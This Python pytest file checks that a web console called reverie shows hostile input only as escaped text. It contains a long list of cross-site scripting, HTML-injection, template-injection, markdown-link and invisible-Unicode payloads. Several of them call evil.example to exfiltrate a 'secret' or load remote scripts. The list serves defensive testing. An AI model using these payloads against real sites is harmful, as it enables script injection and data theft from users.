"""Hostile text in every field that a page shows: it is text, whatever it says."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.console.visiting import SAME, Seen, Visitor
from tests.contract import serving

from reverie.app import Reverie
from reverie.console.text import cost, markdown, shortened, visible
from reverie.domain.events import NewEvent
from reverie.domain.findings import Citation, Comparison, Counts, Effect, Finding, Rate
from reverie.domain.observations import Span
from reverie.domain.proposals import Proposal
from reverie.domain.sessions import SessionInfo, Transcript
from reverie.server.app import build

PAYLOADS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img src='https://evil.example/?q=secret'>", '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert`1`>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=//evil.example>",
    "<embed src=//evil.example>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example'</style>",
    "<form action=//evil.example><input name=key></form>", "<button formaction=//evil.example>x</button>",
    "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<!--><img src=x onerror=alert(1)>-->",
    "<textarea></textarea><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</pre></code><script>alert(1)</script>", "<div hx-get=//evil.example hx-trigger=load>",
    "<div data-hx-get='/x' hx-on::load='alert(1)'>", "{{ 7*7 }}{% for x in y %}", "{{ config }}${7*7}<%= 7*7 %>",
    "![x](https://evil.example/?q=secret)", "![x](javascript:alert(1))", "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>", "[x]: javascript:alert(1)\n[x]", "![x][y]\n\n[y]: https://evil.example/a.png",
    "`</code><script>alert(1)</script>`", "\u202ekcatta\u202c", "a\u200bb\u2066c\u2069d", "\U000e0041\U000e0042 hidden",
    '" autofocus onfocus=alert(1) x="', "' style='background:url(//evil.example)", "&lt;script&gt;alert(1)&lt;/script&gt;",
]  # fmt: skip
_TOGETHER = 5
"""Payloads in one text: a page takes as long to look at for one."""
_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "ontoggle",
    "onpointerenter",
    "onbeforeinput",
    "onscrollend",
)
_TAGS = ("audio", "video", "marquee", "input", "select", "keygen", "isindex", "portal", "picture", "template")
_ENTITIES = (
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&lt;svg/onload=alert(1)&gt;",
    "&NewLine;javascript&colon;alert(1)",
)
_BREAKS = (
    "-->",
    "--!>",
    "]]>",
    "?>",
    "%>",
    "</style>",
    "</textarea>",
    "</noscript>",
    "</template>",
    "</svg>",
    "</math>",
    "</select>",
    "</option>",
    "</td></tr></table>",
    "</summary></details>",
    "</form>",
    "</main>",
    "</code></pre>",
    "</blockquote>",
    "</label>",
)
_URLS = (
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "jav&#x09;ascript:alert(1)",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://evil.example/x",
    "file:///etc/passwd",
    "//evil.example",
    "/\\evil.example",
    "https:evil.example",
    "\\\\evil.example\\share",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "javascript://%0aalert(1)",
    "filesystem:https://evil.example",
    "ws://evil.example",
    "ftp://evil.example/x",
    "https://user:pass@evil.example/",
)
_UNSEEN = (
    "\u202a",
    "\u202b",
    "\u202d",
    "\u2067",
    "\u2068",
    "\u200e",
    "\u200f",
    "\u061c",
    "\u2060",
    "\ufeff",
    "\u00ad",
    "\u034f",
    "\u180e",
    "\u3164",
    "\ufff9",
    "\U000e007f",
)
_MARKED = (
    "[x](<javascript:alert(1)>)",
    "[x](\njavascript:alert(1)\n)",
    "[![x](https://evil.example/a)](javascript:alert(1))",
    "<https://evil.example/?q=secret>",
    "[x]: <data:text/html,x>\n\n[x]",
    "![][x]\n\n[x]: //evil.example/p.png",
    "| a |\n|---|\n| <img src=//evil.example> |",
    "```html\n<script>alert(1)</script>\n```",
    "# <svg onload=alert(1)>",
    "- <details open ontoggle=alert(1)>",
    "> <iframe src=//evil.example>",
    "---\nkind: </code></pre><script>alert(1)</script>\n---\nx",
    "<div style=\"background-image:url('//evil.example')\">x</div>",
    "<a href=# hx-on:click=alert(1) hx-boost=true>x</a>",
    "<b hx-post=/proposals/x/approve hx-trigger=load>x</b>",
    "<p data-key=a data-go=i data-here data-say>x</p>",
    "<input name=token value=x>",
    "<i sse-connect=//evil.example hx-ext=sse>x</i>",
    "<math href=javascript:alert(1)>x",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,x#x></svg>",
    "<img srcset='//evil.example/x 2x'>",
    "<link rel=prefetch href=//evil.example>",
    "<a ping=//evil.example href=/>x</a>",
    "<object><param name=src value=//evil.example></object>",
    "<table background=//evil.example><td>x</td></table>",
    "<style>@font-face{src:url(//evil.example)}</style>",
    "<meta name=referrer content=unsafe-url>",
    "<base target=_blank>",
    "<form id=x></form><button form=x formaction=//evil.example>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)
PAYLOADS += [
    *(f'x" {name}="alert(1)" y="' for name in _EVENTS),
    *(f"<{tag} autofocus onfocus=alert(1)>" for tag in _TAGS),
    *_ENTITIES,
    *(f"{end}<img src=x onerror=alert(1)>" for end in _BREAKS),
    *(f"[x]({url})" for url in _URLS),
    *(f"pay {mark}tnemyap{mark} now" for mark in _UNSEEN),
    *_MARKED,
]


def test_there_are_many() -> None:
    assert len(set(PAYLOADS)) >= 150


def _house(house: Reverie, payload: str) -> tuple[str, str]:
    """A session, a finding, a proposal and a memory that say nothing else; the session's and proposal's ids."""
    info = SessionInfo(
        "test", "hostile", agent=payload, user=payload, model=payload, task=payload, goal=payload,
        repository=payload, started_at=datetime(2026, 3, 1, tzinfo=UTC),
    )  # fmt: skip
    told = [
        NewEvent("user.message", {"content": [{"type": "text", "text": payload}]}, key="1"),
        NewEvent(
            "agent.tool_use", {"tool_use_id": "c", "name": payload, "input": {payload: payload}}, key="2"
        ),
        NewEvent("agent.tool_result", {"tool_use_id": "c", "content": payload, "is_error": True}, key="3"),
        NewEvent("agent.message", {"content": payload}, key="4", thread=payload),
    ]
    session = house.log.record(Transcript(info, told)).session_id
    house.memory.write("default", "/notes/hostile.md", payload, actor="ana", reason=payload)
    return session, house.log.window(session, limit=1)[0].id


def _finding(session: str, event: str, payload: str) -> Finding:
    return Finding(
        "find_hostile", payload, "preference", "behaviour", payload, {"x": payload}, payload, payload, {},
        Counts(1, 2, 3, 0, 1, 1),
        Effect(raw=Comparison(Rate(1, 2), Rate(1, 2), 0.0, -0.1, 0.1, 1.0, payload), stratified_by=payload, note=payload),
        0.5, 0.5, None, None, (Citation(session, Span(event, 1, "/content/0/text", 0, len(payload))),), (), ("tool",),
        sessions=(session,), synonyms=(payload,),
    )  # fmt: skip


@pytest.fixture
def hostile(
    house: Reverie, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Callable[[str], tuple[Visitor, list[str]]]]:
    """A visitor of a house in which everything says the payload, and the addresses of its pages."""
    with serving.sync_http(build(house, console=True)) as http:

        def make(payload: str) -> tuple[Visitor, list[str]]:
            session, event = _house(house, payload)
            finding = _finding(session, event, payload)
            real = house.review.list(status="pending")[0]
            proposal: Proposal = replace(
                real, id="prop_hostile", title=payload, content=payload, idea=payload, writer=payload,
                path="/notes/other.md", findings=(finding.id,), kind="add", base_sha256=None, base_content=None,
            )  # fmt: skip
            house.review.submit([proposal])
            monkeypatch.setattr(type(house.workspace()), "finding", lambda self, id: finding)
            store = real.store_id
            memory = next(m.id for m in house.memory.list(store) if m.path == "/notes/hostile.md")
            version = house.memories.versions(store, memory_id=memory)[0].id
            return Visitor(http, SAME), [
                "/?open=prop_hostile", "/?q=hostile&group=file", "/proposals/prop_hostile", "/proposals/prop_hostile?view=split",
                "/proposals/prop_hostile?view=rendered", "/proposals/prop_hostile/edit", f"/findings/{finding.id}",
                f"/sessions/{session}?at={event}&finding={finding.id}", "/sessions", f"/memory/{store}?under=/notes/",
                f"/memory/{store}/{memory}?version={version}", "/audit", "/settings", "/settings/policies", "/settings/keys",
                "/dreams", f"/sessions/{session}/team", f"/sessions/{session}/outcomes", "/sessions?q=alert",
            ]  # fmt: skip

        yield make


@pytest.mark.parametrize("first", range(0, len(PAYLOADS), _TOGETHER))
def test_a_payload_is_only_ever_text(first: int, hostile: Callable[[str], tuple[Visitor, list[str]]]) -> None:
    payload = " \n\n".join(PAYLOADS[first : first + _TOGETHER])
    visitor, addresses = hostile(payload)
    for address in addresses:
        _only_ours(visitor.look(address), address)
    page = visitor.look("/proposals/prop_hostile/edit")
    checked = visitor.http.post(
        "/proposals/prop_hostile/check",
        data={
            **page.forms["/proposals/prop_hostile/modify"],
            "content": payload,
            "note": payload,
            "back": payload,
        },
        headers=SAME,
    )
    assert checked.status_code == 200
    _only_ours(Seen(checked.text), "check")
    for query in ("/?q=", "/?kind=", "/?open=", "/audit?subject=", "/sessions?after=", "/x/", "/static/"):
        found = visitor.http.get(f"{query}{httpx_quote(payload)}")
        assert found.status_code in (200, 400, 404)
        if "html" in found.headers["content-type"]:
            _only_ours(Seen(found.text), query)


def httpx_quote(text: str) -> str:
    from urllib.parse import quote

    return quote(text, safe="")


def _only_ours(page: Seen, where: str) -> None:
    """No element, attribute or address of a page comes from the payload."""
    for tag, attributes in page.tags:
        assert tag not in {"style", "img", "iframe", "object", "embed", "base", "video", "math", "body2"}, (
            where
        )
        assert tag != "script" or attributes["src"].startswith("/static/"), where
        assert not [name for name in attributes if name.startswith("on") or name == "style"], (
            where,
            attributes,
        )
        for name in ("src", "action", "formaction", "data", "hx-get"):
            assert attributes.get(name, "/").startswith("/"), (where, attributes)
        href = attributes.get("href", "/")
        assert re.match(r"/(?!/)|#|https?://|mailto:", href), (where, href)
        if not href.startswith(("/", "#")):
            assert tag == "a" and "noreferrer" in attributes["rel"]
    told = page.text.replace("\u200b", "")
    assert not re.search("[\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]", _outside_the_editor(told)), (
        where
    )


def _outside_the_editor(html: str) -> str:
    return re.sub(r"<textarea.*?</textarea>", "", html, flags=re.S)


def test_what_is_edited_is_exactly_what_was_written(
    hostile: Callable[[str], tuple[Visitor, list[str]]],
) -> None:
    text = "\n\nfirst \u202e line & <b>\u200b\n"
    visitor, _ = hostile(text)
    page = visitor.look("/proposals/prop_hostile/edit")
    inside = re.search(r"<textarea[^>]*>\n(.*?)</textarea>", page.text, re.S)
    assert inside is not None
    from html import unescape

    assert unescape(inside[1]) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain", "plain"),
        ("a\u202eb", "a⟨U+202E⟩b"),
        ("\u200bx", "⟨U+200B⟩x"),
        ("a\u200db", "a⟨U+200D⟩b"),
        ("👩\u200d💻", "👩\u200d💻"),
        ("❤\ufe0f", "❤\ufe0f"),
        ("می\u200cخواهم", "می\u200cخواهم"),
        ("x\ufe0f\ufe0f", "x⟨U+FE0F⟩⟨U+FE0F⟩"),
        ("\x00\x1b[0m", "⟨U+0000⟩⟨U+001B⟩[0m"),
        ("a\r\nb\tc", "a\nb\tc"),
        ("\ud800", "⟨U+D800⟩"),
    ],
)
def test_what_nobody_sees_is_spelled_out(text: str, shown: str) -> None:
    assert visible(text) == shown


@given(st.text(alphabet=st.characters(), max_size=60), st.integers(min_value=0, max_value=80))
def test_a_text_is_cut_to_what_it_takes(text: str, most: int) -> None:
    cut = shortened(text, most)
    assert text.startswith(cut) and cost(cut) <= most


MARKED: list[tuple[str, Any]] = [
    ("![a](https://evil.example/x.png)", "https://evil.example/x.png"),
    ("[a](https://other.example)", "(other.example)"),
    ("---\nkind: <b>\n---\n\n# Title", "<pre><code>kind: &lt;b&gt;</code></pre><h1>Title</h1>"),
]


@pytest.mark.parametrize(("text", "holds"), MARKED)
def test_pictures_are_links_and_links_say_where_to(text: str, holds: str) -> None:
    made = str(markdown(text))
    assert holds in made and "<img" not in made
